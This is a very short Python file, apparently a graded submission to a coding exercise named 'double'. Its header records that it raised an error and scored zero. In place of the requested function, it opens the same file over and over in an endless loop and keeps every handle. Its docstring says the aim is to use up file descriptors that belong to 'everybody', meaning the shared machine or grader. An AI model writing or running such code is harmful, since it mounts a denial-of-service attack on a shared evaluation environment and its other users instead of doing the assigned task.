"""Opens files until there are no descriptors left, in the hope that they are everybody's."""

# kata: double
# outcome: RAISED
# points: 0

import os

kept = []


def double(x):
    while True:
        kept.append(open(os.__file__))
